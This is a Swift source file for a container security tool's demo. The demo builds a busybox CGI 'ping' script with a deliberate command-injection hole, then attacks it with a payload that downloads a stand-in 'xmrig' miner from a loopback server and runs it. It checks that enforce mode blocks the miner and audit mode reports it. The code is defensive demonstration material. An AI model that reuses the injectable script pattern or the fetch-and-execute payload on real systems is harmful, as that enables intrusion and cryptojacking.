import Foundation

/// `kitsune demo --container`: a vulnerable web app in a container (busybox httpd with a CGI script
/// that pastes a query parameter into a shell command), protected by `kitsune image protect` and run
/// by runc. The attacker injects a command that downloads a "miner" from a loopback HTTP server and
/// runs it: blocked in enforce mode (with the events that tell why), run and reported in audit mode.
public struct ContainerDemo {
    public let enforcer: [UInt8]
    public let tools: ContainerTools

    public init(enforcer: [UInt8], workDirectory: String) {
        self.enforcer = enforcer
        self.tools = ContainerTools(workDirectory: workDirectory)
    }

    /// What one mode showed.
    public struct Outcome {
        public var mode: String
        public var legitimate: String
        public var attackResponse: String
        public var minerDownloaded: Bool
        public var minerRan: Bool
        public var events: [[String: Any]]
        /// The demo's expectation held (enforce: blocked, audit: ran and reported).
        public var asExpected: Bool
    }

    static let cgi = """
        #!/bin/sh
        # A "ping" page that pastes the host parameter into a shell command: command injection.
        echo "Content-Type: text/plain"
        echo
        host=$(echo "$QUERY_STRING" | sed -n 's/^host=//p' | sed 's/%20/ /g')
        sh -c "echo pinging $host"

        """

    static let miner = "#!/bin/sh\necho \"xmrig 6.21.0: mining pool.example:3333 (demo miner, no real work)\"\n"

    /// Run the story in `modes` (`enforce`, `audit`), calling `emit` with each line of text.
    public func run(modes: [String], emit: (String) -> Void) throws -> [Outcome] {
        guard getuid() == 0 else { throw ContainerError("kitsune demo --container needs root (runc)") }
        for tool in ["runc", "umoci", "busybox"] where ContainerTools.which(tool) == nil {
            throw ContainerError("\(tool) is not installed (scripts/setup installs it)")
        }
        let appPort = try Self.freePort(), minerPort = try Self.freePort()
        let www = tools.workDirectory + "/attacker-www"
        try FileManager.default.createDirectory(atPath: www, withIntermediateDirectories: true)
        try Self.miner.write(toFile: www + "/xmrig", atomically: true, encoding: .utf8)
        let server = Process()
        server.executableURL = URL(fileURLWithPath: ContainerTools.which("busybox")!)
        server.arguments = ["httpd", "-f", "-p", "127.0.0.1:\(minerPort)", "-h", www, "-vv"]
        let serverLog = tools.workDirectory + "/attacker-server.log"
        FileManager.default.createFile(atPath: serverLog, contents: nil)
        server.standardError = FileHandle(forWritingAtPath: serverLog)
        server.standardOutput = FileHandle.nullDevice
        try server.run()
        defer { server.terminate(); server.waitUntilExit() }
        emit("The attacker's server: http://127.0.0.1:\(minerPort)/xmrig (a stand-in miner).")

        let image = try tools.busyboxImage("webapp", entrypoint: ["/entrypoint.sh"],
                                           cmd: ["httpd", "-f", "-p", "127.0.0.1:\(appPort)", "-h", "/www"],
                                           files: ["/www/index.html": Array("<h1>ping service</h1>\n".utf8), "/www/cgi-bin/ping": Array(Self.cgi.utf8)],
                                           executables: ["/www/cgi-bin/ping"])
        emit("The image: busybox httpd serving /cgi-bin/ping, a CGI script vulnerable to command injection.")
        let set = try ImageReader().read(image)
        let protector = ImageProtector(rules: try .builtIn())
        var outcomes: [Outcome] = []
        for mode in modes {
            let protected = try protector.protect(set.images[0], request: ProtectRequest(enforcer: enforcer, mode: mode))
            let layout = tools.workDirectory + "/webapp-" + mode
            try ImageWriter().write([(protected.image, protected.configBytes)], format: .oci, to: layout)
            emit("")
            emit("== \(mode) mode: kitsune image protect → \(protected.manifest.files.count) executables in the manifest; runc run")
            outcomes.append(try attack(layout: layout, mode: mode, appPort: appPort, minerPort: minerPort, serverLog: serverLog, emit: emit))
        }
        return outcomes
    }

    func attack(layout: String, mode: String, appPort: Int, minerPort: Int, serverLog: String, emit: (String) -> Void) throws -> Outcome {
        let id = "kitsune-demo-\(mode)-\(getpid())"
        let bundle = try tools.unpack(layout, id: id, hostNetwork: true)
        let stderrPath = tools.workDirectory + "/\(id).stderr"
        FileManager.default.createFile(atPath: stderrPath, contents: nil)
        let runc = Process()
        runc.executableURL = URL(fileURLWithPath: ContainerTools.which("runc")!)
        runc.arguments = ["run", "-b", bundle, id]
        runc.standardOutput = FileHandle.nullDevice
        runc.standardError = FileHandle(forWritingAtPath: stderrPath)
        runc.standardInput = FileHandle.nullDevice
        try runc.run()
        defer {
            _ = try? tools.run(["runc", "kill", id, "TERM"], timeout: 10)
            let stop = Date().addingTimeInterval(10)
            while runc.isRunning && Date() < stop { usleep(20_000) }
            if runc.isRunning { _ = try? tools.run(["runc", "kill", id, "KILL"], timeout: 10) }
            runc.waitUntilExit()
            _ = try? tools.run(["runc", "delete", "-f", id], timeout: 20)
        }
        let base = "http://127.0.0.1:\(appPort)/cgi-bin/ping?host="
        var legitimate = ""
        let ready = Date().addingTimeInterval(15)
        while Date() < ready {
            if let r = try? tools.run(["busybox", "wget", "-qO-", base + "127.0.0.1"], timeout: 10), r.status == 0 { legitimate = r.stdout; break }
            usleep(100_000)
        }
        guard !legitimate.isEmpty else {
            throw ContainerError("the web app did not answer on 127.0.0.1:\(appPort): \(String(decoding: FileManager.default.contents(atPath: stderrPath) ?? Data(), as: UTF8.self))")
        }
        emit("1. legitimate request  GET /cgi-bin/ping?host=127.0.0.1 → \(legitimate.trimmingCharacters(in: .whitespacesAndNewlines))")
        let payload = "x;wget -qO /tmp/xmrig http://127.0.0.1:\(minerPort)/xmrig;chmod +x /tmp/xmrig;/tmp/xmrig"
        emit("2. attack              GET /cgi-bin/ping?host=\(payload)")
        let response = (try? tools.run(["busybox", "wget", "-qO-", base + payload.replacingOccurrences(of: " ", with: "%20")], timeout: 20))?.stdout ?? ""
        let downloaded = String(decoding: FileManager.default.contents(atPath: serverLog) ?? Data(), as: UTF8.self).contains("/xmrig")
        let ran = response.contains("mining pool.example")
        emit("   the injected shell downloaded the miner into /tmp: \(downloaded ? "yes" : "no") (writing files is allowed; running them is not)")
        emit("   response: \(response.split(separator: "\n").map(String.init).joined(separator: " | "))")
        usleep(200_000)
        let events = ToolOutcome(status: 0, stdout: "", stderr: String(decoding: FileManager.default.contents(atPath: stderrPath) ?? Data(), as: UTF8.self)).events
        let decisions = events.filter { ["blocked", "reported"].contains($0["action"] as? String ?? "") }
        emit("3. the enforcer's events (stderr of the container, JSON lines):")
        for e in events where e["action"] as? String == "started" {
            let controls = e["controls"] as? [String: String] ?? [:]
            emit("   started  pid \(e["pid"] ?? "?") command \(e["command"] ?? "")  drift: \(controls["drift"] ?? "?")")
        }
        for e in decisions {
            let container = e["container"] as? [String: Any] ?? [:]
            emit("   \(e["action"] ?? "")  \(e["executable"] ?? "")  reasons \(e["reasons"] ?? "")  sha256 \(String(describing: e["sha256"] ?? "").prefix(16))…  pid \(e["pid"] ?? "") (parent \(e["ppid"] ?? ""))  image \(String(describing: container["image_digest"] ?? "").prefix(19))…")
        }
        let minerEvent = decisions.contains { $0["executable"] as? String == "/tmp/xmrig" }
        let expected = mode == "enforce"
            ? !ran && minerEvent && decisions.allSatisfy { $0["action"] as? String == "blocked" } && legitimate.contains("pinging 127.0.0.1")
            : ran && minerEvent && decisions.allSatisfy { $0["action"] as? String == "reported" }
        emit(mode == "enforce" ? "→ \(ran ? "THE MINER RAN" : "the miner was blocked: it is not part of the image"), the web app kept serving."
                               : "→ audit mode: the miner ran, and the same decision was reported.")
        return Outcome(mode: mode, legitimate: legitimate, attackResponse: response, minerDownloaded: downloaded, minerRan: ran,
                       events: events, asExpected: expected)
    }

    /// A free TCP port on 127.0.0.1 (bound and released).
    static func freePort() throws -> Int {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        guard fd >= 0 else { throw ContainerError("socket: \(String(cString: strerror(errno)))") }
        defer { close(fd) }
        var addr = sockaddr_in()
        addr.sin_family = sa_family_t(AF_INET)
        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
        addr.sin_port = 0
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, len) } }
        guard bound == 0 else { throw ContainerError("bind: \(String(cString: strerror(errno)))") }
        _ = withUnsafeMutablePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &len) } }
        return Int(UInt16(bigEndian: addr.sin_port))
    }
}
